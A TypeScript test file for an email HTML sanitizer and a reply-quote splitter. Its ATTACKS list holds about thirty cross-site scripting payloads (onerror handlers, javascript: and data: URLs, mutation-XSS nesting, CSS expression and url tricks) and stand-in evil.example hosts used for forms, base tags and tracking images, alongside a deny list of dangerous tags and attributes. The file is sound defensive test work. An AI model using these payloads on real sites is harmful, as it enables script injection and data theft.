import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { splitReply } from './domain/reply/split'
import { htmlToLines, htmlToVisibleText } from './html-text'
import { sanitizeEmailHtml } from './sanitize-html'

const cidUrl = (id: string) => (id === 'logo@x' ? '/api/v1/attachments/1' : null)
const clean = (html: string) => sanitizeEmailHtml(html, { cidUrl }).html

const FORBIDDEN_TAGS =
  /^(?:script|style|iframe|object|embed|form|input|button|select|textarea|meta|base|link|svg|math|video|audio|template|noscript)$/i

/** What a browser would run, load or leave by itself: read from the tags as it reads them, attribute values quoted. */
function dangersIn(html: string): string[] {
  const found: string[] = []
  for (const [, name = '', attributes = ''] of html.matchAll(
    /<([a-z][^\s/>]*)((?:\s+[^\s=>"']+(?:="[^"]*")?)*)\s*\/?>/gi,
  )) {
    if (FORBIDDEN_TAGS.test(name)) found.push(name)
    for (const [, key = '', value = ''] of attributes.matchAll(/\s([^\s=>"']+)(?:="([^"]*)")?/g)) {
      if (/^(?:on|srcdoc|srcset|action|formaction|background|ping|id|class|name$)/i.test(key)) found.push(key)
      if (key === 'href' && !/^(?:https?:\/\/|mailto:|tel:)/i.test(value)) found.push(`href ${value}`)
      if (key === 'src' && !value.startsWith('/api/v1/attachments/')) found.push(`src ${value}`)
      if (key === 'style' && /url|expression|import|position|[\\@]|\/\*/i.test(value)) found.push(`style ${value}`)
    }
  }
  // Nothing may look like a tag that the expression above did not read as one.
  const rest = html.replace(/<\/?[a-z][^\s/>]*(?:\s+[^\s=>"']+(?:="[^"]*")?)*\s*\/?>/gi, '')
  return rest.includes('<') ? [...found, `loose bracket in ${rest.slice(0, 80)}`] : found
}

const ATTACKS = [
  '<script>alert(1)</script>ok',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)><p>x',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="/admin">x</a><a href="//evil.example">y</a>',
  '<p style="background:url(//evil.example)">x',
  '<p style="background:\\75rl(//evil.example)">x',
  '<p style="width:expression(alert(1))">x',
  '<p style="position:fixed;top:0">x',
  '<p style="color:red;/* */background-image:url(x)">x',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action=//evil.example><input name=q><button>go</button></form>',
  '<base href=//evil.example><meta http-equiv=refresh content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<img srcset="//evil.example 1x"><img src="//evil.example/p.gif"><img src="https://evil.example/p.gif">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="/api/v1/customers/1"><img data-cid="x onerror=alert(1)">',
  '<img data-remote-src="javascript:alert(1)">',
  '<table background="//evil.example"><td background=//evil.example>x',
  '<div id=x class=y name=z>t</div>',
  '<p>a<p>b<table><td>c<li>d',
  '<!--[if IE]><script>alert(1)</script><![endif]-->x',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<a href="https://a.example" target=_top ping=//evil.example download>x</a>',
  '<scr\0ipt>alert(1)</scr\0ipt>',
]

describe('sanitizeEmailHtml', () => {
  it.each(ATTACKS)('%s', (html) => {
    const once = clean(html)
    expect(dangersIn(once)).toEqual([])
    expect(clean(once)).toBe(once)
  })

  it('is a fixed point on any nesting of any of it', () => {
    const piece = fc.oneof(
      fc.constantFrom(...ATTACKS),
      fc.constantFrom(
        '<p>',
        '</p>',
        '<b>',
        '</div>',
        '<table>',
        '<td>',
        '<a href="https://a.example">',
        '&amp;',
        '&lt;script&gt;',
        '"',
        "'",
        '<',
        '>',
        'texte',
        '<img src="cid:logo@x">',
      ),
      fc.string(),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const once = sanitizeEmailHtml(pieces.join(''), { cidUrl })
        const twice = sanitizeEmailHtml(once.html, { cidUrl })
        expect(dangersIn(once.html)).toEqual([])
        expect(twice).toEqual(once)
      }),
      { numRuns: 400 },
    )
  })

  it('holds remote images back and counts them, stored and shown', () => {
    const stored = sanitizeEmailHtml(
      '<img src="https://a.example/1.png"><img src="//a.example/2.png"><img src="cid:logo@x"><img src="cid:autre@x">',
    )
    expect(stored.remoteImages).toBe(2)
    expect(stored.html).not.toContain(' src=')
    const shown = sanitizeEmailHtml(stored.html, { cidUrl })
    expect(shown.remoteImages).toBe(2)
    expect(shown.html).toContain('data-remote-src="https://a.example/2.png"')
    expect(shown.html).toContain('src="/api/v1/attachments/1"')
    expect(shown.html).toContain('data-cid="autre@x"')
  })

  it('keeps what formats a mail and opens links outside', () => {
    const html = clean(
      '<div style="color:#333;font-family:\'Calibri\',sans-serif"><table width="100%"><tr><td colspan=2><b>Gras</b></td></tr></table><a href="https://a.example/?x=1&amp;y=2">lien</a></div>',
    )
    expect(html).toBe(
      '<div style="color:#333;font-family:\'Calibri\',sans-serif"><table width="100%"><tr><td colspan="2"><b>Gras</b></td></tr></table><a href="https://a.example/?x=1&amp;y=2" rel="noopener noreferrer nofollow" target="_blank">lien</a></div>',
    )
  })

  it('survives hostile sizes', () => {
    for (const html of [
      '<div>'.repeat(100_000),
      '<table><tr><td>'.repeat(40_000),
      '<'.repeat(500_000),
      '<blockquote>a'.repeat(40_000),
    ]) {
      expect(() => sanitizeEmailHtml(html)).not.toThrow()
      expect(() => htmlToVisibleText(html)).not.toThrow()
    }
  })
})

describe('htmlToLines', () => {
  it('reads paragraphs, lists and tables, leaves scripts and styles out', () => {
    const text = htmlToVisibleText(
      '<style>p{}</style><p>Bonjour&nbsp;!</p><ul><li>un</li><li>deux</li></ul><table><tr><td>a</td><td>b</td></tr></table><script>x()</script>',
    )
    expect(text.replace(/\n+/g, '\n')).toBe('Bonjour\u00a0!\n- un\n- deux\na b')
  })

  it.each([
    [
      'Gmail',
      '<div dir="ltr">Oui, merci.<br><div class="gmail_signature">Marie</div></div><br><div class="gmail_quote"><div class="gmail_attr">Le lun. 3 nov. 2026 à 10:12, X &lt;x@y.fr&gt; a écrit :<br></div><blockquote class="gmail_quote" style="border-left:1px #ccc solid"><p>Ancien</p></blockquote></div>',
    ],
    [
      'Outlook',
      '<div class=WordSection1><p class=MsoNormal>Oui, merci.<o:p></o:p></p><div style="border:none;border-top:solid #E1E1E1 1.0pt"><p class=MsoNormal><b>De&nbsp;:</b> X &lt;x@y.fr&gt; <br><b>Envoyé&nbsp;:</b> lundi 3 novembre 2026 10:12<br><b>À&nbsp;:</b> Z<br><b>Objet&nbsp;:</b> Devis</p></div><p class=MsoNormal>Ancien</p></div>',
    ],
    [
      'Outlook mobile',
      '<div>Oui, merci.</div><div id="ms-outlook-mobile-signature">Télécharger <a href="https://aka.ms/x">Outlook pour iOS</a></div><hr><div id="divRplyFwdMsg"><b>De :</b> X &lt;x@y.fr&gt;<br><b>Envoyé :</b> lundi 3 novembre 2026 10:12<br><b>À :</b> Z &lt;z@y.fr&gt;<br><b>Objet :</b> Devis</div><div>Ancien</div>',
    ],
    [
      'Apple Mail',
      '<div>Oui, merci.</div><div><br><blockquote type="cite"><div>Le 3 nov. 2026 à 10:12, X &lt;x@y.fr&gt; a écrit :</div><div>Ancien</div></blockquote></div>',
    ],
    [
      'Thunderbird',
      '<p>Oui, merci.</p><div class="moz-cite-prefix">Le 03/11/2026 à 10:12, X a écrit :<br></div><blockquote type="cite"><p>Ancien</p></blockquote>',
    ],
    [
      'Yahoo',
      '<div>Oui, merci.</div><div class="yahoo_quoted"><div>Le lundi 3 novembre 2026 à 10:12:45 UTC+1, X &lt;x@y.fr&gt; a écrit :</div><div>Ancien</div></div>',
    ],
  ])('knows where %s begins to quote', (_, html) => {
    const split = splitReply(htmlToLines(html))
    expect(split.visible.trim()).toBe('Oui, merci.')
    expect(split.quoted).toContain('Ancien')
  })

  it('takes an indented paragraph for what it is', () => {
    const split = splitReply(
      htmlToLines(
        '<p>Ma demande :</p><blockquote style="margin:0 0 0 40px;border:none;padding:0px"><div>deux montures</div></blockquote>',
      ),
    )
    expect(split.visible).toContain('deux montures')
  })
})
